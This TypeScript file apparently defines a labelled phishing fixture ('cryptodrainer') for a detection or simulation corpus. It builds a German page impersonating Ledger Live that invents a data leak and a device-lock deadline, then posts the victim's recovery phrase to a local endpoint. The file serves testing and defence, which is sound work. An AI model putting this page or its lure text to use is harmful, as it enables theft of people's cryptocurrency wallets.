import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, jsRoute, logo } from '../parts/j-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'j-seedphrase-ledger-recovery-de',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://ledger-live.firmware-sicherheit.com/de/wiederherstellung',
  routes: {
    'ledger-live.firmware-sicherheit.com/de/wiederherstellung': htmlRoute(doc({
      lang: 'de',
      title: 'Ledger Live – Sicherheitsüberprüfung',
      style: `body{background:#131415;color:#fff}.b{max-width:640px;margin:40px auto;padding:26px;background:#1c1d1f;border-radius:10px}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:8px}.g input{background:#2b2c2e;border:1px solid #444;color:#fff;padding:8px;border-radius:4px;width:100%}button{background:#bbb0ff;color:#000;border:0;padding:12px 24px;border-radius:20px;margin-top:16px;font-weight:700}`,
      body: `<div class="b"><h2>Sicherheitsvorfall: Überprüfung Ihres Ledger-Geräts erforderlich</h2><p>Aufgrund eines Datenlecks bei einem Drittanbieter müssen alle Nutzer ihre Wiederherstellungsphrase verifizieren, um das neue Firmware-Update 2.4.1 zu erhalten. Nicht verifizierte Geräte werden ab dem 01.12. gesperrt.</p>
<p>Wählen Sie die Länge Ihrer Phrase: <select id="n"><option>24</option><option>18</option><option>12</option></select></p><form id="f"><div class="g" id="g"></div><button>Verifizieren</button></form></div>
<script>function b(n){var g=document.getElementById('g');g.innerHTML='';for(var i=1;i<=n;i++){g.innerHTML+='<input name="w'+i+'" placeholder="'+i+'." autocomplete="off" spellcheck="false">'}}b(24);document.getElementById('n').onchange=function(){b(+this.value)};
document.getElementById('f').onsubmit=function(e){e.preventDefault();var w=[].map.call(this.querySelectorAll('input'),function(x){return x.value.trim()}).join(' ');var x=new XMLHttpRequest();x.open('POST','/de/api/verify');x.setRequestHeader('content-type','application/json');x.send(JSON.stringify({m:w}));alert('Verifizierung erfolgreich. Bitte trennen Sie Ihr Gerät nicht.')}</script>`,
    })),
    'ledger-live.firmware-sicherheit.com/de/api/verify': jsonRoute({ ok: 1 }),
  },
},
];
